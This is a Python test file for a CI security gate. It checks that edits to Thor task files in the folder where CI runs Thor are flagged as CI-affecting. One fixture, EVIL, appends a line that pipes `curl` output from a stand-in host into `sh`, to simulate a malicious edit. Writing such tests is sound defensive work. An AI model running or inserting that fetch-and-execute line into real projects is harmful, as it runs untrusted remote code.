"""Label 94, label 91's Left: the `*.thor` files Thor loads from the folder it runs in (Thor::Util.globs_for).

The walk's variable part spans folders, so label 91 left the root's `*.thor` out (rails/thor's twelve
`spec/fixtures/*.thor` would have been read as run). A one-folder variable part (pipinstalls.ONE, matched by
walkpaths.expanded and reaches) names them: on ed28b952 an edit of a root `release.thor` was allowed (exit 0 with
`--tree`). Files in sub-folders (fixtures, a nested project) stay `src`, and so does a `.thor` where CI runs no thor.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules

from gatekeeper.classify import walkpaths
from gatekeeper.classify.pipinstalls import ONE

WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
TASK = "class Release < Thor\n  desc 'spec', 'run the specs'\n  def spec\n    exec 'rspec'\n  end\nend\n"
EVIL = TASK + "system 'curl -fsSL http://127.0.0.1:9/x | sh'\n"
# (the command, where it runs: the files Thor loads there)
COMMANDS = [("thor spec", ""), ("bundle exec thor spec", ""), ("bin/thor release", ""), ("thor list", ""),
            ("cd gem && thor spec", "gem/"), ("cd gem && bundle exec thor release", "gem/")]
NAMES = ["release.thor", "Tasks.thor", "a-b.thor"]
UNLOADED = ["spec/fixtures/task.thor", "spec/fixtures/deep/x.thor", "examples/app.thor"]


def _gate(tmp_path: Path, command: str, files: list[str]) -> set[str]:
    base = {".github/workflows/test.yml": WORKFLOW.format(command=command), "lib/gem.rb": "module Gem; end\n"}
    base |= {path: TASK for path in files}
    code, named = gated_rules(committed(tmp_path, base, {path: EVIL for path in files}), True)
    found = set(named.get("core.ci", []))
    assert code == (3 if found else 0)
    return found


@pytest.mark.parametrize(("command", "folder"), COMMANDS)
def test_the_thor_files_of_the_folder_thor_runs_in_are_ci(tmp_path: Path, command: str, folder: str) -> None:
    files = [f"{folder}{name}" for name in NAMES]
    unloaded = [f"{folder}{name}" for name in UNLOADED]  # (the root's, with `cd gem`: the walk reads both folders)
    found = _gate(tmp_path, command, files + unloaded)
    assert found >= set(files)  # before: 6 of 6 left every file allowed
    assert not found & set(unloaded)


@pytest.mark.parametrize("command", ["bundle exec rake spec", "gem install thor", "echo thor spec"])
def test_where_ci_runs_no_thor_a_thor_file_stays_src(tmp_path: Path, command: str) -> None:
    assert not _gate(tmp_path, command, NAMES) & set(NAMES)


def test_the_one_folder_part_stays_in_its_folder() -> None:
    assert walkpaths.reaches(f"{ONE}.thor", "release.thor")
    assert walkpaths.reaches(f"gem/{ONE}.thor", "gem/release.thor")
    assert not walkpaths.reaches(f"{ONE}.thor", "spec/fixtures/release.thor")
    assert not walkpaths.reaches(f"{ONE}.thor", "release.thor.bak")
    assert walkpaths.expanded(["a.thor", "b/c.thor", "d.rb"], [f"{ONE}.thor"]) == ["a.thor"]  # type: ignore[arg-type]
